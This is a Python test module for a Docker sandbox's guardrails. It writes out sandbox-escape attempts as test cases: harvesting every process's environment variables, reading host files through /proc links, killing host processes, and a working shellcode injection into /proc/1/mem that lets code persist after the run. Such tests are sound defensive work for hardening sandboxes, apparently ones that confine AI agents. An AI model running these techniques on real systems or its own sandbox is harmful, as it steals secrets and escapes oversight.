# Copyright (c) 2026 The DockerSandboxApp authors
# GNU General Public License v3.0 or later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Processes: of the host, and the one of the sandbox that outlives a run."""

from __future__ import annotations

import os
import time

from ansible_collections.dockersandbox.guardrails.plugins.module_utils import stack
from security.cases import Scene, case


@case("read the environment and arguments of every process", "processes + capabilities + seccomp", source="gh-aw-firewall #620")
def environments(scene: Scene) -> str:
    return scene.stolen(
        """
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/task/*/environ"):
    with contextlib.suppress(OSError):
        print(open(path, "rb").read(), flush=True)
"""
    )


@case("read the host's files through /proc/*/root, cwd, fd and map_files", "processes + capabilities + seccomp")
def roots(scene: Scene) -> str:
    return scene.stolen(
        """
for way in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/fd/*"):
    for path in (E["HOST_FILE"], "/.." * 12 + E["HOST_FILE"]):
        with contextlib.suppress(OSError):
            print(open(way + path).read(), flush=True)
print(attempt(lambda: open(E["HOST_FILE"]).read()))
"""
    )


@case("end a program of the host by its pid", "processes + capabilities")
def signals(scene: Scene) -> str:
    arena = scene.arena
    scene.said("attempt(lambda: os.kill(int(E['CANARY_PID']), 9))\nattempt(lambda: signal.pidfd_send_signal(call('pidfd_open', int(E['CANARY_PID']), 0), 9))\n")
    time.sleep(0.1)
    if arena.canary.poll() is None:
        return ""
    arena.new_canary()
    return "the program has ended"


TAKE_OVER = """
# It has those cleared up that end, as the first process did: nothing that is left tells of it.
payload = b"import contextlib, os, time\\nwhile True:\\n with contextlib.suppress(OSError): os.waitpid(-1, os.WNOHANG)\\n"
payload += b" open('/workspace/%s', 'a').write('x'); time.sleep(0.02)\\n" % T.encode()
start = int(open("/proc/1/syscall").read().split()[-1], 16)
texts = [b"/usr/bin/python3\\0", b"-c\\0", payload + b"\\0"]
room, places = start + 64 + 32, []
for text in texts:
    places.append(room)
    room += len(text)
# execve(places[0], the array behind the code, NULL), at which the first process returns from the call that it waits in
code = b"\\x48\\xbf" + struct.pack("<Q", places[0]) + b"\\x48\\xbe" + struct.pack("<Q", start + 64) + b"\\x31\\xd2\\xb8\\x3b\\0\\0\\0\\x0f\\x05"
with open("/proc/1/mem", "r+b", buffering=0) as memory:
    memory.seek(start)
    memory.write(code.ljust(64, b"\\x90") + struct.pack("<4Q", *places, 0) + b"".join(texts))
if os.fork() == 0:
    if os.fork() == 0:
        time.sleep(0.1)
        os._exit(0)
    os._exit(0)
os.wait()
time.sleep(0.5)
"""


@case("write its own code into the first process, which outlives the run", "first process")
def first_process(scene: Scene) -> str:
    if os.uname().machine != "x86_64":
        return ""
    try:
        scene.said(TAKE_OVER)
        file = scene.box.upper / scene.mark
        size = file.stat().st_size if file.exists() else 0
        time.sleep(0.3)
        return "it goes on after the end of all processes" if file.exists() and file.stat().st_size > size else ""
    finally:
        scene.box.host.docker.kill(scene.box.container)
        scene.box.restart()


@case("read what its first process was given", "first process")
def first_environment(scene: Scene) -> str:
    said = scene.said("attempt(lambda: print(open('/proc/1/environ').read()))\nattempt(lambda: print(os.listdir('/proc/1/fd')))\n")
    # Nothing secret is in it; under gVisor it is read.
    return "" if scene.box.runtime != "runc" or f"HOME={stack.HOME}" not in said else "its environment was read"


@case("end its own first process again and again")
def end_of_itself(scene: Scene) -> str:
    scene.said("while True:\n os.kill(1, 15); os.kill(1, 9); time.sleep(0.1)\n", 3)
    scene.box.restart()
    if scene.box.answers() > 10:
        return "it does not come back"
    return "" if scene.neighbour.answers() < 2 else "its neighbour does not answer"
